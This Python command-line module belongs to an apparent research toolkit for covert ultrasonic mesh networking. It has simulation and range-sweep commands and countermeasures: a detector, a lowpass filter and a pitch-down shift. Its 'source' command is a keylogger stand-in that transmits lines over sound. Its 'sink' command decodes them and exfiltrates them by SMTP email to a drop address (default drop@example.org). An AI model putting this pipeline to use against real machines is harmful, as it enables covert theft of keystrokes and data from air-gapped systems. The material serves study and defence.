"""Command-line entry points.

Exit status contract: 0 = success, 1 = negative outcome (no preamble,
unrecoverable packet, detector triggered, traffic undelivered), 2 = usage
or validation error.  The default modem profile comes from the
SONOMESH_PROFILE environment variable when set.
"""

from __future__ import annotations

import argparse
import dataclasses
import json
import os
import sys
from pathlib import Path

import numpy as np

from . import ec, guwal
from .apps import LineSource, SinkConfig, SmtpSink
from .audio import SampleBuffer, read_wav, write_wav
from .channel import (
    ChannelModel,
    ScenarioError,
    load_scenario,
    make_wav_dumper,
    run_scenario,
    scenario_from_dict,
)
from .countermeasures import DetectorParams, detect_covert, lowpass4, pitch_down
from .guwmanet import NetHeader, NetPacket, encode_net
from .phy import PACKET_SAMPLES, NoPreambleError, demodulate, get_profile, modulate_packet

EXIT_OK = 0
EXIT_NEGATIVE = 1
EXIT_USAGE = 2

DEFAULT_GAP_S = 0.25


def _profile(args) -> "ModemConfig":
    cfg = get_profile(args.profile)
    if getattr(args, "hop_seed", None) is not None:
        cfg = dataclasses.replace(cfg, hop_seed=args.hop_seed)
    return cfg


def _modulate_frames(frames, net_addr: int, cfg) -> SampleBuffer:
    gap = np.zeros(int(DEFAULT_GAP_S * cfg.sample_rate))
    pieces = []
    for i, frame in enumerate(frames):
        pkt = NetPacket(NetHeader(net_addr, net_addr), frame)
        if i:
            pieces.append(gap)
        pieces.append(modulate_packet(encode_net(pkt), cfg).samples)
    return SampleBuffer(np.concatenate(pieces), cfg.sample_rate)


def _scan_packets(buf: SampleBuffer, cfg) -> list[ec.SoftPacket]:
    """All packets in a buffer, scanning past each one found."""
    found = []
    pos = 0
    while True:
        try:
            sp = demodulate(buf, cfg, start=pos)
        except NoPreambleError:
            break
        found.append(sp)
        pos = sp.offset + PACKET_SAMPLES
        if pos + PACKET_SAMPLES > len(buf.samples) + PACKET_SAMPLES // 2:
            break
    return found


# -- subcommands -------------------------------------------------------------


def cmd_encode(args) -> int:
    cfg = _profile(args)
    try:
        frames = guwal.chunk_message(
            args.text, src=args.src_addr, dst=args.dst_addr, ack_requested=args.ack_requested
        )
        buf = _modulate_frames(frames, args.net_addr, cfg)
    except ValueError as e:
        print(f"error: {e}", file=sys.stderr)
        return EXIT_USAGE
    write_wav(args.out, buf)
    print(f"wrote {args.out}: {len(frames)} frame(s), {buf.duration:.2f} s")
    return EXIT_OK


def cmd_decode(args) -> int:
    buf = read_wav(args.infile)
    cfg = _profile(args)
    packets = _scan_packets(buf, cfg)
    if not packets:
        print("error: no preamble found", file=sys.stderr)
        return EXIT_NEGATIVE
    status = EXIT_OK
    for i, sp in enumerate(packets):
        try:
            pkt = ec.correct(sp)
        except ec.Unrecoverable as e:
            print(f"frame {i}: unrecoverable ({e})", file=sys.stderr)
            status = EXIT_NEGATIVE
            continue
        h = pkt.frame.header
        print(
            f"frame {i}: t={sp.rx_time:.3f}s transmitter={pkt.net.transmitter} "
            f"last_hop={pkt.net.last_hop} src={h.src} dst={h.dst} "
            f"type={h.frame_type.name.lower()} ack_req={int(h.ack_requested)} "
            f"text={pkt.frame.text!r}"
        )
    return status


def _run_range_sweep(doc: dict) -> int:
    sweep = doc["sweep"]
    distances = sweep["distances"]
    profiles = sweep.get("profiles", ["ultrasonic-21k"])
    trials = int(sweep.get("trials", 20))
    base_seed = int(doc.get("rng_seed", 0))
    channel = ChannelModel(**doc.get("channel", {}))
    print(f"{'profile':>22} {'distance_m':>10} {'success':>8}")
    for profile in profiles:
        cfg = get_profile(profile)
        for d in distances:
            ok = 0
            for trial in range(trials):
                scen = scenario_from_dict(
                    {
                        "schema_version": 1,
                        "name": f"sweep-{profile}-{d}",
                        "profile": profile,
                        "rng_seed": base_seed + trial,
                        "duration": 120,
                        "nodes": [
                            {"id": "TX", "net_addr": 1, "guwal_addr": 1, "role": "victim"},
                            {"id": "RX", "net_addr": 2, "guwal_addr": 2, "role": "attacker"},
                        ],
                        "links": [{"a": "TX", "b": "RX", "distance_m": d}],
                        "channel": doc.get("channel", {}),
                        "traffic": [
                            {"time": 1.0, "src": 1, "dst": 2, "text": "probe", "ack": False}
                        ],
                    }
                )
                r = run_scenario(scen)
                if r.all_data_delivered():
                    ok += 1
            print(f"{profile:>22} {d:>10.2f} {ok / trials:>8.2%}")
        print(f"  ({profile}: predicted max range {channel.max_range(cfg.center_freq):.2f} m)")
    return EXIT_OK


def cmd_simulate(args) -> int:
    try:
        with open(args.scenario, encoding="utf-8") as fh:
            doc = json.load(fh)
    except (OSError, json.JSONDecodeError) as e:
        print(f"error: cannot read scenario: {e}", file=sys.stderr)
        return EXIT_USAGE
    if doc.get("type") == "range_sweep":
        return _run_range_sweep(doc)
    try:
        scen = scenario_from_dict(doc)
        if args.seed is not None:
            scen.rng_seed = args.seed
            scen.validate()
    except ScenarioError as e:
        print(f"error: invalid scenario: {e}", file=sys.stderr)
        return EXIT_USAGE

    sinks = {}
    sink_objs = {}
    if args.spool_dir:
        for node in scen.nodes:
            if node.role == "attacker":
                sink = SmtpSink(
                    SinkConfig(spool_dir=Path(args.spool_dir) / node.id, tunnel=args.tunnel)
                )
                sink_objs[node.id] = sink

                def adapter(frame, now, raw, _sink=sink):
                    _sink.deliver(frame, now, raw)

                sinks[node.id] = adapter
    wav_dump = None
    if args.wav_dump:
        wav_dump = make_wav_dumper(args.wav_dir, scen, args.wav_dump)

    result = run_scenario(scen, sinks=sinks, wav_dump=wav_dump)

    for sink in sink_objs.values():
        sink.flush_all_partials()

    if args.trace:
        Path(args.trace).write_text("\n".join(result.trace.to_log_lines()) + "\n")
    if args.json_trace:
        Path(args.json_trace).write_text(result.trace.to_json())

    n_orig = len(result.originations)
    delivered = result.delivered_keys() & set(result.originations)
    print(f"scenario: {scen.name} (seed {scen.rng_seed})")
    print(f"originated frames: {n_orig}, delivered: {len(delivered)}, "
          f"failures: {len(result.failures)}")
    for (t, node, key, latency) in result.deliveries:
        if key in result.originations and latency is not None:
            print(f"  delivered at t={t:.3f} node={node} latency={latency:.3f}s")
    if n_orig and delivered == set(result.originations):
        return EXIT_OK
    return EXIT_NEGATIVE


def cmd_detect(args) -> int:
    buf = read_wav(args.infile)
    params = DetectorParams(band_ratio=args.band_ratio, consecutive=args.consecutive)
    report = detect_covert(buf, params)
    for line in report.to_log_lines():
        print(line)
    if args.json:
        Path(args.json).write_text(report.to_json())
    print("COVERT" if report.triggered else "CLEAN")
    return EXIT_NEGATIVE if report.triggered else EXIT_OK


def cmd_filter(args) -> int:
    buf = read_wav(args.infile)
    try:
        out = lowpass4(buf, args.cutoff)
    except ValueError as e:
        print(f"error: {e}", file=sys.stderr)
        return EXIT_USAGE
    write_wav(args.out, out)
    print(f"wrote {args.out} (lowpass4 at {args.cutoff:.0f} Hz)")
    return EXIT_OK


def cmd_pitchdown(args) -> int:
    buf = read_wav(args.infile)
    out = pitch_down(buf, args.shift)
    write_wav(args.out, out)
    print(f"wrote {args.out} (shifted down {args.shift:.0f} Hz)")
    return EXIT_OK


def cmd_source(args) -> int:
    cfg = _profile(args)
    source = LineSource(args.src_addr, args.dst_addr, ack=args.ack_requested)
    data = sys.stdin.buffer.read() if args.infile == "-" else Path(args.infile).read_bytes()
    frames = source.feed(data)
    if not frames:
        print("no completed lines in input; nothing emitted", file=sys.stderr)
        return EXIT_NEGATIVE
    out_dir = Path(args.out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    buf = _modulate_frames(frames, args.net_addr, cfg)
    path = out_dir / "lines_000.wav"
    write_wav(path, buf)
    print(f"wrote {path}: {len(frames)} frame(s), {buf.duration:.2f} s")
    if source.pending_bytes():
        print(f"({source.pending_bytes()} bytes buffered awaiting a line feed)")
    return EXIT_OK


def cmd_sink(args) -> int:
    cfg = _profile(args)
    smtp_host, smtp_port = None, 25
    if args.smtp:
        host, _, port = args.smtp.partition(":")
        smtp_host, smtp_port = host, int(port or 25)
    sink = SmtpSink(
        SinkConfig(
            recipient=args.to,
            smtp_host=smtp_host,
            smtp_port=smtp_port,
            spool_dir=args.spool_dir,
            tunnel=args.tunnel,
        )
    )
    buf = read_wav(args.infile)
    packets = _scan_packets(buf, cfg)
    delivered = 0
    for sp in packets:
        try:
            pkt = ec.correct(sp)
        except ec.Unrecoverable:
            continue
        raw = np.packbits(encode_net(pkt)).tobytes()
        sink.deliver(pkt.frame, raw=raw)
        delivered += 1
    sink.flush_all_partials()
    print(f"decoded {delivered} frame(s), {len(sink.records)} line(s) handled")
    if not delivered:
        return EXIT_NEGATIVE
    return EXIT_OK


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="sonomesh",
        description="ultrasonic data-over-sound mesh stack tools",
    )
    default_profile = os.environ.get("SONOMESH_PROFILE", "ultrasonic-21k")
    sub = parser.add_subparsers(dest="command", required=True)

    def add_profile(p):
        p.add_argument("--profile", default=default_profile,
                       choices=["ultrasonic-21k", "near-ultrasonic-18k6"])
        p.add_argument("--hop-seed", type=int, default=None)

    p = sub.add_parser("encode", help="modulate text into a WAV file")
    p.add_argument("--text", required=True)
    p.add_argument("--src-addr", type=int, default=1)
    p.add_argument("--dst-addr", type=int, default=2)
    p.add_argument("--net-addr", type=int, default=1)
    p.add_argument("--ack-requested", action="store_true")
    p.add_argument("--out", required=True)
    add_profile(p)
    p.set_defaults(func=cmd_encode)

    p = sub.add_parser("decode", help="demodulate frames from a WAV file")
    p.add_argument("--in", dest="infile", required=True)
    add_profile(p)
    p.set_defaults(func=cmd_decode)

    p = sub.add_parser("simulate", help="run a scenario file")
    p.add_argument("--scenario", required=True)
    p.add_argument("--trace", default=None, help="write line-oriented trace log")
    p.add_argument("--json-trace", default=None)
    p.add_argument("--seed", type=int, default=None, help="override scenario rng_seed")
    p.add_argument("--wav-dump", default=None, metavar="A,B",
                   help="dump receiver-side WAV for every transmission on link A,B")
    p.add_argument("--wav-dir", default="wav_dump")
    p.add_argument("--spool-dir", default=None,
                   help="attach an offline SMTP sink to attacker nodes")
    p.add_argument("--tunnel", action="store_true")
    p.set_defaults(func=cmd_simulate)

    p = sub.add_parser("detect", help="scan a WAV file for covert ultrasonic modulation")
    p.add_argument("--in", dest="infile", required=True)
    p.add_argument("--json", default=None)
    p.add_argument("--band-ratio", type=float, default=0.25)
    p.add_argument("--consecutive", type=int, default=5)
    p.set_defaults(func=cmd_detect)

    p = sub.add_parser("filter", help="apply the 4-pole lowpass guard filter")
    p.add_argument("--in", dest="infile", required=True)
    p.add_argument("--out", required=True)
    p.add_argument("--cutoff", type=float, default=18000.0)
    p.set_defaults(func=cmd_filter)

    p = sub.add_parser("pitchdown", help="shift the ultrasonic band into audible range")
    p.add_argument("--in", dest="infile", required=True)
    p.add_argument("--out", required=True)
    p.add_argument("--shift", type=float, default=19000.0)
    p.set_defaults(func=cmd_pitchdown)

    p = sub.add_parser("source", help="line-buffered covert transmitter (keylogger stand-in)")
    p.add_argument("--in", dest="infile", default="-", help="input file or - for stdin")
    p.add_argument("--src-addr", type=int, required=True)
    p.add_argument("--dst-addr", type=int, required=True)
    p.add_argument("--net-addr", type=int, default=1)
    p.add_argument("--ack-requested", action="store_true", default=True)
    p.add_argument("--out-dir", required=True)
    add_profile(p)
    p.set_defaults(func=cmd_source)

    p = sub.add_parser("sink", help="decode frames from WAV and exfiltrate as email")
    p.add_argument("--in", dest="infile", required=True)
    p.add_argument("--spool-dir", default="spool")
    p.add_argument("--smtp", default=None, metavar="HOST[:PORT]")
    p.add_argument("--to", default="drop@example.org")
    p.add_argument("--tunnel", action="store_true")
    add_profile(p)
    p.set_defaults(func=cmd_sink)

    return parser


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    return args.func(args)


if __name__ == "__main__":
    sys.exit(main())
